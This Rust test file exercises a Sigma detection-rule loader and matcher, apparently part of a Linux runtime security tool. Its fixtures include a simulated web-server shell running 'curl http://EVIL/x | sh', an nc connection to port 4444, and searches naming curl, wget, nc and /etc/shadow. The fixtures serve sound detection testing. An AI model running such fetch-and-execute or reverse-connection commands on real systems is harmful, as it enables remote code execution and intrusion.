//! Sigma rules: what is loaded, what is refused and why, and what rules match.

mod refusals;

use super::super::testing::{event, exec, in_container, loaded, metadata, open, process};
use super::super::{
    Level, LoadOptions, Loaded, Outcome, RefusalKind, RuleFile, RuleSet, load, rule_list,
    run_sample_files,
};
use crate::model::{
    AddressFamily, AddressName, Endpoint, Event, Identity, Payload, Priority, Provenance, Socket,
    SocketAddress, Syscall, Transport,
};

/// A rule of a log source with that detection.
fn rule(source: &str, detection: &str) -> String {
    format!("title: r\nlogsource:\n    {source}\ndetection:\n    {detection}\n")
}

const PROCESS: &str = "{category: process_creation, product: linux}";

fn of(source: &str) -> String {
    source
        .trim_start_matches('{')
        .trim_end_matches('}')
        .replace(", ", "\n    ")
}

/// Loads a rule about processes with that search.
fn search(search: &str) -> Loaded {
    let search = search.replace('\n', "\n        ");
    let detection = format!("s:\n        {search}\n    condition: s");
    loaded(&rule(&of(PROCESS), &detection))
}

fn matches(set: &RuleSet, event: &Event<'_>) -> &'static str {
    let mut outcome = Outcome::default();
    set.evaluate(event, &mut outcome);
    match (outcome.matched.len(), outcome.undecided.len()) {
        (0, 0) => "false",
        (_, 0) => "true",
        _ => "unknown",
    }
}

#[track_caller]
fn refused(loaded: &Loaded) -> (RefusalKind, &str, u32, u32) {
    let report = &loaded.report;
    assert_eq!(report.refused.len(), 1, "{}", report.to_text());
    let refusal = &report.refused[0];
    (refusal.kind, &refusal.reason, refusal.line, refusal.column)
}

#[track_caller]
fn set(loaded: Loaded) -> RuleSet {
    assert!(
        loaded.report.refused.is_empty(),
        "{}",
        loaded.report.to_text()
    );
    loaded.set
}

fn bash(args: &[&str]) -> Event<'static> {
    let parent = std::sync::Arc::new(process(1, "nginx", &["-g", "daemon off;"], None));
    exec(process(2, "bash", args, Some(parent)))
}

#[test]
fn falco_and_sigma_lie_in_one_file_as_documents() {
    let text = format!(
        "- rule: f\n  desc: d\n  condition: proc.name = x\n  output: o\n  priority: INFO\n---\n{}",
        rule(&of(PROCESS), "s: {Image: /bin/x}\n    condition: s")
    );
    let set = set(loaded(&text));
    let names: Vec<_> = set
        .rules()
        .map(|rule| (&*rule.info.name, rule.info.language))
        .collect();
    assert_eq!(names, [("f", "falco"), ("r", "sigma")]);
}

#[test]
fn a_broken_document_does_not_drop_the_others() {
    let good = rule(&of(PROCESS), "s: {Image: /bin/x}\n    condition: s");
    let text = format!("title: bad\ntags:\n- x\nlogsource: [\n---\n{good}");
    let loaded = loaded(&text);
    assert_eq!(loaded.report.loaded, 1);
    assert_eq!(loaded.report.refused[0].rule.as_deref(), Some("bad"));
    assert_eq!(loaded.report.refused[0].kind, RefusalKind::Yaml);
}

#[test]
fn what_a_rule_says_of_itself_reaches_its_alerts() {
    let text = format!(
        "id: 0a1b\nauthor: Ada, Bob\nlevel: high\ndescription: Why.\nreferences: [https://e.org]\n\
         tags: [attack.execution, attack.t1059.004]\n{}",
        rule(
            &of(PROCESS),
            "s:\n        Image|endswith: /bash\n    condition: s"
        )
    );
    let set = set(loaded(&text));
    let event = in_container(bash(&["-c", "id 100%"]), metadata("web"));
    let mut outcome = Outcome::default();
    set.evaluate(&event, &mut outcome);
    let finding = set.finding(outcome.matched[0], &event);
    let info = &finding.rule;
    assert_eq!(
        (&*info.id, &*info.author, info.level),
        ("0a1b", "Ada, Bob", "high")
    );
    assert_eq!((info.priority, info.language), (Priority::Error, "sigma"));
    assert_eq!(info.attack_ids, ["T1059.004"]);
    assert_eq!(info.references, ["https://e.org"]);
    assert_eq!((&*info.description, info.line), ("Why.", 7));
    assert_eq!(
        finding.output,
        "r | Image=/usr/bin/bash CommandLine=bash -c id 100% ParentImage=/usr/bin/nginx \
         User=root CurrentDirectory=/srv container=web image=web"
    );
    let term = finding.evidence.iter().find(|term| term.field == "Image");
    let term = term.expect("the field is shown by its name in the rule");
    assert_eq!((&*term.operator, &*term.operand), ("endswith", "/bash"));
}

#[test]
fn searches_match_as_the_specification_says() {
    let event = bash(&["-c", "Curl  http://EVIL/x | sh"]);
    for (text, expected) in [
        ("Image: /usr/bin/bash", "true"),
        ("Image: /USR/BIN/BASH", "true"),
        ("Image|cased: /USR/BIN/BASH", "false"),
        ("Image: bash", "false"),
        ("CommandLine|contains: curl", "true"),
        ("CommandLine|contains|cased: curl", "false"),
        ("CommandLine|startswith: 'bash -C'", "true"),
        ("CommandLine: '*curl*sh'", "true"),
        ("CommandLine: 'bash?-c*'", "true"),
        ("CommandLine: 'bash??-c*'", "false"),
        (r"CommandLine|contains: '\*'", "false"),
        ("CommandLine|contains|all: [curl, '| sh']", "true"),
        ("CommandLine|contains|all: [curl, wget]", "false"),
        ("CommandLine|contains: [wget, curl]", "true"),
        ("CommandLine|re: 'Curl\\s+http'", "true"),
        ("CommandLine|re: 'curl\\s+http'", "false"),
        ("CommandLine|re|i: 'curl\\s+http'", "true"),
        ("ParentImage|endswith: /nginx", "true"),
        ("ParentCommandLine: 'nginx -g daemon off;'", "true"),
        ("CurrentDirectory: /srv", "true"),
        ("ProcessId: 2", "true"),
        ("ProcessId|gte: 3", "false"),
        ("ProcessId|lt: '3'", "true"),
        ("ProcessId|startswith: '2'", "true"),
        ("User: root", "true"),
        ("LogonId: 0", "true"),
        ("Image|neq: /bin/sh", "true"),
        ("Image|neq: [/bin/sh, /usr/bin/bash]", "false"),
        ("Image|exists: true", "true"),
        ("Image|exists: false", "false"),
        ("Image: null", "false"),
        ("Image: ''", "false"),
        ("Image: '*'", "true"),
        ("Image|fieldref: ParentImage", "false"),
        ("Image|fieldref|endswith: Image", "true"),
        ("UtcTime|year: 2023", "true"),
        ("UtcTime|hour: 21", "false"),
        ("UtcTime|hour: [21, 22]", "true"),
        ("container.image.repository: web", "false"),
        ("Image|endswith: /bash\nCommandLine|contains: wget", "false"),
        (
            "- Image|endswith: /zsh\n- CommandLine|contains: evil",
            "true",
        ),
    ] {
        let set = set(search(text));
        assert_eq!(matches(&set, &event), expected, "{text}");
    }
}

#[test]
fn what_is_missing_compares_false_and_its_opposite_true() {
    // Without a parent.
    let event = exec(process(2, "bash", &[], None));
    for (search, condition, expected) in [
        ("ParentImage|endswith: sh", "s", "false"),
        ("ParentImage|endswith: sh", "not s", "true"),
        ("ParentImage|neq: sh", "s", "false"),
        ("ParentImage: null", "s", "true"),
        ("ParentImage: null", "not s", "false"),
        ("ParentImage|exists: false", "s", "true"),
    ] {
        let detection = format!("s:\n        {search}\n    condition: {condition}");
        let set = set(loaded(&rule(&of(PROCESS), &detection)));
        assert_eq!(matches(&set, &event), expected, "{search} {condition}");
    }
}

#[test]
fn what_is_unknown_stays_unknown() {
    let pending = in_container(bash(&[]), Identity::Pending);
    for (condition, expected) in [
        ("s", "unknown"),
        ("not s", "unknown"),
        ("s and b", "unknown"),
        ("s or b", "true"),
        ("s and not b", "false"),
    ] {
        let detection = format!(
            "s:\n        container.image.repository|contains: web\n    b:\n        \
             Image|endswith: bash\n    condition: {condition}"
        );
        let set = set(loaded(&rule(&of(PROCESS), &detection)));
        assert_eq!(matches(&set, &pending), expected, "{condition}");
    }
}

#[test]
fn quantities_count_searches() {
    let event = bash(&["curl", "evil"]);
    for (condition, expected) in [
        ("1 of a*", "true"),
        ("2 of a*", "true"),
        ("3 of a*", "false"),
        ("all of a*", "false"),
        ("2 of them", "true"),
        ("not 1 of b*", "true"),
    ] {
        let detection = format!(
            "a_1:\n        CommandLine|contains: curl\n    a_2:\n        CommandLine|contains: \
             evil\n    a_3:\n        CommandLine|contains: wget\n    b:\n        \
             CommandLine|contains: nc\n    condition: {condition}"
        );
        let set = set(loaded(&rule(&of(PROCESS), &detection)));
        assert_eq!(matches(&set, &event), expected, "{condition}");
    }
}

fn rename(new: &str) -> Event<'static> {
    let named = |path: &str| crate::model::CallPath {
        path: super::super::testing::path(path.as_bytes().to_vec().into()),
        ..Default::default()
    };
    let paths = crate::model::Paths {
        first: named("/tmp/x"),
        second: named(new),
        ..Default::default()
    };
    event(
        process(2, "mv", &[], None),
        Syscall::Rename,
        Payload::Paths(paths),
    )
}

#[test]
fn files_are_those_that_are_made_written_or_renamed() {
    let source = of("{category: file_event, product: linux}");
    let detection = "s:\n        TargetFilename|startswith: /etc/\n    condition: s";
    let set = set(loaded(&rule(&source, detection)));
    let file = |flags| open(process(2, "tee", &[], None), "/etc/x", flags);
    assert_eq!(matches(&set, &file(0o1)), "true");
    assert_eq!(matches(&set, &file(0)), "false");
    let failed = Event {
        result: Some(-13),
        ..file(0o1)
    };
    assert_eq!(matches(&set, &failed), "false");
    assert_eq!(matches(&set, &rename("/etc/passwd")), "true");
    assert_eq!(matches(&set, &rename("/tmp/y")), "false");
}

fn connect(address: &str, result: Option<i64>) -> Event<'static> {
    let socket = Socket {
        endpoint: Endpoint {
            family: AddressFamily::Inet,
            transport: Some(Transport::Tcp),
            local: None,
            remote: Some(SocketAddress::Ip(address.parse().unwrap(), 4444)),
        },
        fd: 3,
        provenance: Provenance::Kernel,
        fd_shared: false,
        local_name: AddressName::None,
        remote_name: AddressName::Known([Box::from("pool.example.org")].into()),
    };
    Event {
        result,
        ..event(
            process(2, "nc", &[], None),
            Syscall::Connect,
            Payload::Socket(socket),
        )
    }
}

#[test]
fn connections_have_two_ends_and_names() {
    let source = of("{category: network_connection, product: linux}");
    for (search, expected) in [
        ("DestinationIp: 203.0.113.7", "true"),
        ("DestinationIp|cidr: 203.0.113.0/24", "true"),
        ("DestinationIp|cidr: 10.0.0.0/8", "false"),
        ("DestinationIp|startswith: '203.'", "true"),
        ("DestinationIp: '203.*.7'", "true"),
        ("DestinationPort: 4444", "true"),
        ("DestinationPort: [22, 23]", "false"),
        ("DestinationHostname|endswith: '.EXAMPLE.org'", "true"),
        ("Initiated: 'true'", "true"),
        ("Initiated: false", "false"),
        ("Protocol: TCP", "true"),
    ] {
        let detection = format!("s:\n        {search}\n    condition: s");
        let set = set(loaded(&rule(&source, &detection)));
        let under_way = Some(-115);
        assert_eq!(
            matches(&set, &connect("203.0.113.7", under_way)),
            expected,
            "{search}"
        );
        assert_eq!(
            matches(&set, &connect("203.0.113.7", Some(-111))),
            "false",
            "{search}"
        );
    }
}

#[test]
fn records_of_auditd_are_executions_and_paths() {
    let source = of("{product: linux, service: auditd}");
    let execve = "s:\n        type: EXECVE\n        a0|endswith: bash\n        a2|contains: \
                  curl\n    condition: s";
    let set_of = |detection: &str| set(loaded(&rule(&source, detection)));
    assert_eq!(matches(&set_of(execve), &bash(&["-c", "curl x"])), "true");
    assert_eq!(matches(&set_of(execve), &bash(&["curl", "x"])), "false");
    let path = "s:\n        type: PATH\n        name: '/etc/*'\n    condition: s";
    let read = open(process(2, "cat", &[], None), "/etc/shadow", 0);
    assert_eq!(matches(&set_of(path), &read), "true");
    let created = "s:\n        type: PATH\n        nametype: CREATE\n        name|startswith: \
                   /etc/\n    condition: s";
    assert_eq!(matches(&set_of(created), &read), "false");
    assert_eq!(matches(&set_of(created), &rename("/etc/cron.d/x")), "true");
}

#[test]
fn rules_below_the_level_are_listed_as_disabled() {
    let low = format!(
        "level: low\n{}",
        rule(&of(PROCESS), "s: {Image: x}\n    condition: s")
    );
    let file = RuleFile {
        path: "test.yml".to_owned(),
        text: low,
    };
    let with = |minimum_level| {
        let options = LoadOptions {
            minimum_level,
            ..LoadOptions::default()
        };
        rule_list(&load(std::slice::from_ref(&file), &options).set)[0].enabled
    };
    assert!(with(Level::Low));
    assert!(!with(Level::Medium));
}

#[test]
fn samples_are_events_by_the_fields_of_falco() {
    let text = rule(
        &of(PROCESS),
        "s:\n        CommandLine|contains: evil\n    condition: s",
    );
    let set = set(loaded(&text));
    let samples = RuleFile {
        path: "test.samples.yml".to_owned(),
        text:
            "- rule: r\n  expect: fires\n  fields: {evt.type: execve, proc.exeline: sh -c EVIL}\n\
               - rule: r\n  expect: quiet\n  fields: {evt.type: execve, proc.exeline: sh}\n"
                .to_owned(),
    };
    let report = run_sample_files(&set, &[samples]);
    assert_eq!((report.passed, report.failures), (2, Vec::new()));
}

#[test]
fn two_rules_cannot_have_one_name() {
    let one = rule(&of(PROCESS), "s: {Image: x}\n    condition: s");
    let loaded = loaded(&format!("{one}---\n{one}"));
    assert_eq!(loaded.report.loaded, 1);
    let (_, reason, ..) = refused(&loaded);
    assert_eq!(reason, "a rule is called 'r' already, at test.yaml:1");
}

#[test]
fn a_filter_is_added_to_the_rules_that_it_names() {
    let one = format!(
        "name: shells\n{}",
        rule(
            &of(PROCESS),
            "s:\n        Image|endswith: bash\n    condition: s"
        )
    );
    let filter = |rules: &str, condition: &str| {
        format!(
            "{one}---\ntitle: no backups\nlogsource: {PROCESS}\nfilter:\n    rules: {rules}\n    \
             backup:\n        CommandLine|contains: backup\n    condition: {condition}\n"
        )
    };
    for rules in ["[shells]", "any", "[r]"] {
        let loaded = loaded(&filter(rules, "not backup"));
        assert!(
            loaded.report.warnings.is_empty(),
            "{}",
            loaded.report.to_text()
        );
        let set = set(loaded);
        assert_eq!(matches(&set, &bash(&["backup.sh"])), "false", "{rules}");
        assert_eq!(matches(&set, &bash(&["evil.sh"])), "true", "{rules}");
    }
    let other = loaded(&filter("[another]", "not backup"));
    assert_eq!(other.report.warnings.len(), 2, "{}", other.report.to_text());
    assert_eq!(matches(&set(other), &bash(&["backup.sh"])), "true");
    let forgot = loaded(&filter("[shells]", "backup"));
    assert_eq!(
        forgot.report.warnings.len(),
        1,
        "{}",
        forgot.report.to_text()
    );
}

#[test]
fn a_broken_filter_is_refused_and_the_rule_stays() {
    let one = rule(
        &of(PROCESS),
        "s:\n        Image|endswith: bash\n    condition: s",
    );
    let loaded = loaded(&format!(
        "{one}---\ntitle: f\nfilter:\n    rules: any\n    x:\n        Imag: y\n    condition: not x\n"
    ));
    assert_eq!(loaded.report.loaded, 1);
    let (kind, ..) = refused(&loaded);
    assert_eq!(kind, RefusalKind::NoSuchField);
    assert_eq!(loaded.report.refused[0].rule.as_deref(), Some("f"));
}
